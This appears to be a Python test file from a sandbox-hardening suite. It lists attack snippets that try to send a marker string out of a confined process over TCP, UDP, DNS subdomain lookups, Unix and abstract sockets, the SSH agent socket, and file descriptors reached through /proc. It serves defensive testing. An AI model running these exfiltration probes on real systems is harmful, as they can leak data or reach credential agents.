"""Attacks that send something to somebody; the mark is what they send."""

from __future__ import annotations

from tests.torture.attacks.values import STOPPED, Attack, Facts, heard


def _piped(facts: Facts) -> bool:
    import os

    try:
        return facts.scene.mark.encode() in os.read(facts.scene.pipe[0], 4096)
    except BlockingIOError:
        return False


ATTACKS = (
    Attack(
        "tcp-loopback",
        "connects to a server on the machine's loopback",
        heard("tcp"),
        'socket.create_connection(("127.0.0.1", scene["tcp"]), 5).sendall(mark.encode())',
    ),
    Attack(
        "tcp-loopback-6",
        "does so by IPv6",
        heard("tcp6"),
        'socket.create_connection(("::1", scene["tcp6"]), 5).sendall(mark.encode())',
    ),
    Attack(
        "tcp",
        "connects to another address",
        heard("far"),
        'socket.create_connection(("192.0.2.1", scene["far"]), 5).sendall(mark.encode())',
    ),
    Attack(
        "udp",
        "sends a datagram to another address",
        heard("udp"),
        'socket.socket(type=socket.SOCK_DGRAM).sendto(mark.encode(), ("192.0.2.1", scene["udp"]))',
    ),
    Attack(
        "dns",
        "asks the machine's name server for a name that says something",
        heard("dns"),
        'socket.getaddrinfo(f"{mark}.example", 80)',
    ),
    Attack(
        "unix-socket",
        "connects to a socket that is a file, as a container engine's",
        heard("unix"),
        'peer = socket.socket(socket.AF_UNIX)\npeer.connect(scene["unix"])\npeer.sendall(mark.encode())',
    ),
    Attack(
        "abstract-socket",
        "connects to a socket that is no file, as a desktop's",
        heard("abstract"),
        'peer = socket.socket(socket.AF_UNIX)\npeer.connect(scene["abstract"])\npeer.sendall(mark.encode())',
    ),
    Attack(
        "ssh-agent",
        "talks to the caller's SSH agent",
        heard("agent"),
        'peer = socket.socket(socket.AF_UNIX)\npeer.connect(scene["agent"])\npeer.sendall(mark.encode())',
    ),
    Attack(
        "descriptors",
        "writes to a pipe that the caller's program has open for its children",
        _piped,
        """
for number in range(3, 256):
    if os.path.lexists(f"/proc/self/fd/{number}") and os.readlink(f"/proc/self/fd/{number}") == scene["pipe"]:
        os.write(number, mark.encode())
""",
        none=STOPPED,
    ),
    Attack(
        "descriptors-of-others",
        "writes to it through /proc, as another process has it open",
        _piped,
        """
for path in each(glob.glob("/proc/[0-9]*/fd/*"), lambda path: path if os.readlink(path) == scene["pipe"] else ""):
    if path:
        os.write(os.open(path, os.O_WRONLY | os.O_NONBLOCK), mark.encode())
""",
    ),
)
